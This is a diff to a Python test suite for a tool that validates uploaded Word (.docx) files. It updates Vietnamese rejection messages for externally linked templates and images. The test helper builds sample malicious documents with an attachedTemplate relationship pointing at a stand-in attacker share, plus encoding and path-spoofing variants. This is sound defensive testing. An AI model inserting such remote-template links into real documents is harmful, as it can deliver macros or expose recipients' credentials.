@@ -125,12 +125,13 @@ def _external(
     path: Path,
     mode: str = 'TargetMode="External"',
     target: str = "file://///attacker/share/t.dotm",
+    kind: str = "attachedTemplate",
 ) -> None:
     with zipfile.ZipFile(path) as package:
         rels = package.read("word/_rels/document.xml.rels").decode("utf-8")
     link = (
         '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-        f'relationships/attachedTemplate" Target="{target}" {mode}/>'
+        f'relationships/{kind}" Target="{target}" {mode}/>'
     )
     add_part(
         path,
@@ -166,22 +167,26 @@ def _corrupt(path: Path) -> None:
         ),
         (
             _external,
-            "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
+            "bo-y-te.docx: tệp Word được tạo từ một tệp mẫu (.dotx) nằm ngoài tệp, trên máy soạn hoặc máy chủ của cơ quan; công cụ không nhận tệp còn liên kết như vậy. Hãy tạo văn bản Word trống mới (Tệp > Mới > Văn bản trống), chép toàn bộ nội dung sang (Ctrl+A, Ctrl+C rồi Ctrl+V), lưu văn bản mới dạng .docx, đúng tên tệp cũ.",
         ),
         (
             partial(_external, mode="TargetMode='External'"),
-            "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
+            "bo-y-te.docx: tệp Word được tạo từ một tệp mẫu (.dotx) nằm ngoài tệp, trên máy soạn hoặc máy chủ của cơ quan; công cụ không nhận tệp còn liên kết như vậy. Hãy tạo văn bản Word trống mới (Tệp > Mới > Văn bản trống), chép toàn bộ nội dung sang (Ctrl+A, Ctrl+C rồi Ctrl+V), lưu văn bản mới dạng .docx, đúng tên tệp cũ.",
         ),
         (
             partial(_external, mode='TargetMode = "External"'),
-            "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
+            "bo-y-te.docx: tệp Word được tạo từ một tệp mẫu (.dotx) nằm ngoài tệp, trên máy soạn hoặc máy chủ của cơ quan; công cụ không nhận tệp còn liên kết như vậy. Hãy tạo văn bản Word trống mới (Tệp > Mới > Văn bản trống), chép toàn bộ nội dung sang (Ctrl+A, Ctrl+C rồi Ctrl+V), lưu văn bản mới dạng .docx, đúng tên tệp cũ.",
         ),
         (
             partial(_external, mode='TargetMode="&#69;xternal"'),
-            "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
+            "bo-y-te.docx: tệp Word được tạo từ một tệp mẫu (.dotx) nằm ngoài tệp, trên máy soạn hoặc máy chủ của cơ quan; công cụ không nhận tệp còn liên kết như vậy. Hãy tạo văn bản Word trống mới (Tệp > Mới > Văn bản trống), chép toàn bộ nội dung sang (Ctrl+A, Ctrl+C rồi Ctrl+V), lưu văn bản mới dạng .docx, đúng tên tệp cũ.",
         ),
         (
             partial(_external, target="file://///attacker/relationships/hyperlink/t.dotm"),
+            "bo-y-te.docx: tệp Word được tạo từ một tệp mẫu (.dotx) nằm ngoài tệp, trên máy soạn hoặc máy chủ của cơ quan; công cụ không nhận tệp còn liên kết như vậy. Hãy tạo văn bản Word trống mới (Tệp > Mới > Văn bản trống), chép toàn bộ nội dung sang (Ctrl+A, Ctrl+C rồi Ctrl+V), lưu văn bản mới dạng .docx, đúng tên tệp cũ.",
+        ),
+        (
+            partial(_external, kind="image", target="file:///C:/Anh/bieu-do.png"),
             "bo-y-te.docx: tệp Word liên kết tới tệp hoặc ảnh bên ngoài (ngoài liên kết web). Hãy nhúng ảnh vào tệp (Chèn > Ảnh), bỏ liên kết tới tệp khác rồi lưu lại.",
         ),
     ],
